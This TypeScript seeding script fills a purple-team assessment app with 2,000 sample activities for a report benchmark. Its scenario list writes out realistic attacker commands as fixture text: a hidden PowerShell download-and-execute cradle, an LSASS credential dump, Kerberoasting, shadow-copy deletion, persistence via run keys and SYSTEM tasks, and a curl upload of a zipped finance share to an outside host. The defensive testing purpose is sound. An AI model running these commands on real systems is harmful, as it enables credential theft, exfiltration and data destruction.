/**
 * Set-up of the report bench: an assessment of 2,000 activities that reads like a real one.
 * Phase 1, through the API (server up): the organization, tags, target hosts, an in-progress
 * assessment with five phases and 40 model activities taken through the whole workflow (red
 * command, hand-over, blue outcome and markdown notes, evaluation), so every column, link and
 * history row is the app's own. Phase 2, bulk SQL (server down): the models copied, with their
 * tags, targets and history, to the full count, each copy naming another host so no two
 * activities read the same.
 */
import { mapLimit, rest, type Session } from "./api.js";
import type { Sql } from "./seed.js";

/** Plain words only: the HTML check looks for the name as written (no escaping to undo). */
export const REPORT_ASSESSMENT_NAME = "Northwind purple team exercise Q4";
const MODELS = 40;
const PHASES = ["Initial access", "Execution and persistence", "Credential access", "Lateral movement", "Impact"];

interface Scenario {
  title: string;
  technique: string;
  command: string;
  /** What blue recorded, as the notes tell it. */
  outcome: "prevented" | "blocked" | "alerted" | "logged" | "not_detected";
  notes: string;
}

// {host} is replaced per activity (the copies too), so commands and notes differ throughout.
const SCENARIOS: Scenario[] = [
  {
    title: "Spearphishing attachment with macro",
    technique: "T1566.001",
    command: 'Send-MailMessage -To "finance@{host}" -Attachments .\\invoice.docm `\n  -SmtpServer relay.corp.example',
    outcome: "blocked",
    notes:
      "Mail gateway **quarantined** the attachment.\n\n- Rule: `Office macro from external sender`\n- Ticket INC-4411",
  },
  {
    title: "PowerShell download cradle",
    technique: "T1059.001",
    command:
      "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.5.20/a.ps1')\"\n# run from {host}\nGet-Process | Out-File C:\\Temp\\p.txt",
    outcome: "alerted",
    notes: "EDR raised *Suspicious PowerShell* within 40 s.\n\n1. Script block logging on\n2. AMSI blocked stage two",
  },
  {
    title: "LSASS memory dump with comsvcs",
    technique: "T1003.001",
    command:
      "$p = (Get-Process lsass).Id\nrundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p C:\\Temp\\{host}.dmp full",
    outcome: "prevented",
    notes: "**Prevented** by credential guard on {host}.\n\n> The dump file was created empty.",
  },
  {
    title: "Scheduled task for persistence",
    technique: "T1053.005",
    command: 'schtasks /create /tn "Updater" /tr "C:\\Users\\Public\\upd.exe" /sc onlogon /ru SYSTEM /s {host}',
    outcome: "logged",
    notes: "Logged in Security 4698 only; **no alert**.\n\n- Follow-up: add a detection for tasks run as SYSTEM",
  },
  {
    title: "RDP to a file server with stolen credentials",
    technique: "T1021.001",
    command: "cmdkey /generic:{host} /user:CORP\\svc-backup /pass:********\nmstsc /v:{host}",
    outcome: "alerted",
    notes: "Logon type 10 from a workstation subnet: alert `Unusual RDP source` (*medium*).",
  },
  {
    title: "Service creation with PsExec",
    technique: "T1569.002",
    command: "PsExec64.exe \\\\{host} -accepteula -s cmd.exe /c whoami /all > C:\\Temp\\w.txt",
    outcome: "alerted",
    notes: "Service **PSEXESVC** installed; SOC triaged in 12 min.\n\n- Detection: Sigma `psexec_service`",
  },
  {
    title: "Registry run key",
    technique: "T1547.001",
    command:
      'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v upd /t REG_SZ `\n  /d "C:\\Users\\Public\\upd.exe" /f',
    outcome: "logged",
    notes: "Sysmon event 13 collected; no rule fired on {host}.",
  },
  {
    title: "Discovery of domain admins",
    technique: "T1087.002",
    command: 'net group "Domain Admins" /domain\nnltest /dclist:corp.example\nwhoami /groups',
    outcome: "logged",
    notes: "Only logged. Low value alone; *correlate* with the logon source.",
  },
  {
    title: "Exfiltration over HTTPS",
    technique: "T1041",
    command:
      "Compress-Archive C:\\Shares\\Finance\\* C:\\Temp\\f.zip\ncurl.exe -k -T C:\\Temp\\f.zip https://drop.example.net/{host}",
    outcome: "blocked",
    notes: "Proxy **blocked** the category *file sharing*.\n\n| Control | Result |\n| --- | --- |\n| Proxy | blocked |",
  },
  {
    title: "Ransomware simulation on a test share",
    technique: "T1486",
    command: "for /r \\\\{host}\\test %f in (*.txt) do certutil -encode %f %f.enc\nvssadmin delete shadows /all /quiet",
    outcome: "prevented",
    notes: "EDR killed the process tree after 37 files.\n\n- Alert severity **critical**\n- Host isolated",
  },
  {
    title: "Kerberoasting service accounts",
    technique: "T1558.003",
    command:
      "Rubeus.exe kerberoast /outfile:C:\\Temp\\h.txt /nowrap\nhashcat -m 13100 h.txt words.txt # offline, not on {host}",
    outcome: "not_detected",
    notes:
      "**Not detected.** 4769 events with RC4 were not collected from the DCs.\n\n- Action: forward 4769, alert on RC4 tickets",
  },
];
/** A second technique per model, one each, so the heatmap and appendix span 51 techniques, not 11. */
const SECOND_TECHNIQUES = [
  ..."T1078 T1110.003 T1190 T1133 T1204.002 T1218.011 T1027 T1055 T1070.004 T1112".split(" "),
  ..."T1136.001 T1543.003 T1548.002 T1574.002 T1082 T1083 T1016 T1018 T1057 T1069.002".split(" "),
  ..."T1482 T1003.006 T1552.001 T1555.003 T1005 T1039 T1074.001 T1560.001 T1071.001 T1105".split(" "),
  ..."T1572 T1090 T1567.002 T1048.003 T1490 T1489 T1529 T1562.001 T1047 T1021.002".split(" "),
];
const SEVERITIES = ["low", "medium", "high", "critical"] as const;

const hostOf = (n: number) => `ws-${String(n).padStart(4, "0")}.corp.example`;

/** Phase 1: everything through the API, models included (four requests in flight). */
export async function seedReportModels(admin: Session): Promise<{ orgId: string; assessmentId: string }> {
  const org = await rest<{ id: string }>(admin, "POST", "/orgs", { name: `Bench reports ${Date.now()}` });
  const s: Session = { ...admin, orgId: org.id };
  const tags = await mapLimit(["crown-jewels", "windows", "edr", "retest"], 2, async (name, i) => {
    return (
      await rest<{ id: string }>(s, "POST", "/tags", { name, color: ["#c0392b", "#2980b9", "#27ae60", "#8e44ad"][i] })
    ).id;
  });
  const assets = await mapLimit([1, 2, 3, 4, 5, 6], 2, async (n) => {
    const host = hostOf(n);
    return (
      await rest<{ id: string }>(s, "POST", "/assets", { kind: "host", name: host.split(".")[0], identifier: host })
    ).id;
  });
  const assessment = await rest<{ id: string }>(s, "POST", "/assessments", {
    name: REPORT_ASSESSMENT_NAME,
    description:
      "Quarterly exercise against the **finance** estate.\n\n- Scope: workstations and file servers\n- Out of scope: OT",
    status: "in_progress",
    startDate: "2026-10-01",
    endDate: "2026-12-31",
  });
  const groups: string[] = [];
  for (const name of PHASES) {
    const body = { name, description: `Activities of the *${name.toLowerCase()}* phase.` };
    groups.push((await rest<{ id: string }>(s, "POST", `/assessments/${assessment.id}/groups`, body)).id);
  }
  await mapLimit(
    Array.from({ length: MODELS }, (_, i) => i),
    4,
    async (i) => {
      const sc = SCENARIOS[i % SCENARIOS.length] as Scenario;
      const host = hostOf(1 + (i % 6));
      const a = await rest<{ id: string }>(s, "POST", `/assessments/${assessment.id}/activities`, {
        groupId: groups[i % groups.length],
        title: sc.title,
        description: `Run against \`${host}\` as in the plan; record what the SOC saw.`,
        techniques: [sc.technique, SECOND_TECHNIQUES[i % SECOND_TECHNIQUES.length]],
        tagIds: [tags[i % tags.length], tags[(i + 1) % tags.length]],
        assetIds: [assets[i % assets.length]],
        expectations: { logged: true, alerted: i % 2 === 0, prevented: i % 3 === 0, expectedSeverity: "high" },
      });
      // A tenth stay planned, a tenth are skipped, a tenth wait for blue; the rest are evaluated.
      if (i % 10 === 0) return;
      const move = (to: string) => rest(s, "POST", `/activities/${a.id}/transition`, { to });
      if (i % 10 === 1) return void (await move("skipped"));
      const executedAt = new Date(Date.UTC(2026, 9, 1 + (i % 60), 9 + (i % 8), i % 60)).toISOString();
      await rest(s, "PATCH", `/activities/${a.id}/red`, {
        command: sc.command.replaceAll("{host}", host),
        executedAt,
        executedBy: "r.ortega (red team)",
        source: "ws-0900.corp.example",
        target: host,
      });
      await move("waiting_red");
      await move("waiting_blue");
      if (i % 10 === 2) return;
      const { outcome } = sc;
      await rest(s, "PATCH", `/activities/${a.id}/blue`, {
        outcome,
        ...(outcome === "alerted" || outcome === "prevented"
          ? {
              detectedAt: new Date(Date.parse(executedAt) + 90_000).toISOString(),
              detectionSource: "Defender for Endpoint",
            }
          : {}),
        alertSeverity: outcome === "alerted" ? SEVERITIES[i % SEVERITIES.length] : null,
        notes: sc.notes.replaceAll("{host}", host),
      });
      const overrides =
        i % 7 === 0 ? [{ category: "severity", result: "na", reason: "No severity rating for this control" }] : [];
      await rest(s, "POST", `/activities/${a.id}/evaluate`, { overrides });
    },
  );
  return { orgId: org.id, assessmentId: assessment.id };
}

/** Table columns in order, so the copies follow the schema as it is (columns added later come along). */
async function columnsOf(sql: Sql, table: string): Promise<string[]> {
  const res = (await sql.query(
    `SELECT column_name FROM information_schema.columns
     WHERE table_schema = current_schema() AND table_name = $1 ORDER BY ordinal_position`,
    [table],
  )) as { rows: { column_name: string }[] };
  return res.rows.map((r) => r.column_name);
}

/** INSERT of `table`'s rows of every model, once per copy: each column as it is unless overridden. */
async function copyRows(sql: Sql, table: string, key: string, overrides: Record<string, string>) {
  const columns = await columnsOf(sql, table);
  const list = columns.map((c) => `"${c}"`).join(", ");
  const values = columns.map((c) => overrides[c] ?? `a."${c}"`).join(", ");
  await sql.query(
    `INSERT INTO ${table} (${list}) SELECT ${values} FROM report_copies c JOIN ${table} a ON a."${key}" = c.model`,
  );
}

const HOST = `'ws-[0-9]{4}\\.corp\\.example'`;
const rehost = (column: string) => `regexp_replace(a."${column}", ${HOST}, c.host, 'g')`;
const earlier = (column: string) => `a."${column}" - make_interval(mins => c.g)`;

/** Phase 2, bulk SQL: the models copied until the assessment has `total` activities. */
export async function copyReportModels(sql: Sql, assessmentId: string, total: number): Promise<number> {
  // One row per copy: its id, its model (cycling through them in order) and the host it names.
  await sql.query(
    `CREATE TEMP TABLE report_copies AS
     SELECT gen_random_uuid() AS id, m.id AS model, g,
       'ws-' || lpad((10 + g % 1500)::text, 4, '0') || '.corp.example' AS host,
       m.last + g * 1024 AS position
     FROM generate_series(1, $2::int) AS g
     JOIN (SELECT id, row_number() OVER (ORDER BY position, id) - 1 AS k, count(*) OVER () AS n,
             max(position) OVER () AS last
           FROM activities WHERE "assessmentId" = $1::uuid AND "deletedAt" IS NULL) m ON m.k = (g - 1) % m.n`,
    [assessmentId, total - MODELS],
  );
  await copyRows(sql, "activities", "id", {
    id: "c.id",
    position: "c.position",
    title: `a.title || ' on ' || split_part(c.host, '.', 1)`,
    description: rehost("description"),
    command: rehost("command"),
    target: rehost("target"),
    // Notes gain a line of their own, so no two read the same.
    blueNotes: `CASE WHEN a."blueNotes" = '' THEN '' ELSE ${rehost("blueNotes")} || E'\\n\\n- Seen on \`' || c.host || '\`, case INC-' || (5000 + c.g) END`,
    executedAt: earlier("executedAt"),
    detectedAt: earlier("detectedAt"),
    notifiedAt: earlier("notifiedAt"),
    evaluatedAt: earlier("evaluatedAt"),
    createdAt: earlier("createdAt"),
    updatedAt: earlier("updatedAt"),
  });
  await copyRows(sql, "activity_tags", "activityId", { activityId: "c.id" });
  await copyRows(sql, "activity_assets", "activityId", { activityId: "c.id" });
  await copyRows(sql, "activity_history", "activityId", {
    id: "gen_random_uuid()",
    activityId: "c.id",
    createdAt: earlier("createdAt"),
  });
  await sql.query("DROP TABLE report_copies");
  for (const table of ["activities", "activity_tags", "activity_assets", "activity_history"]) {
    await sql.query(`ANALYZE ${table}`);
  }
  const res = (await sql.query(
    `SELECT count(*)::int AS n FROM activities WHERE "assessmentId" = $1::uuid AND "deletedAt" IS NULL`,
    [assessmentId],
  )) as { rows: { n: number }[] };
  return res.rows[0]?.n ?? 0;
}
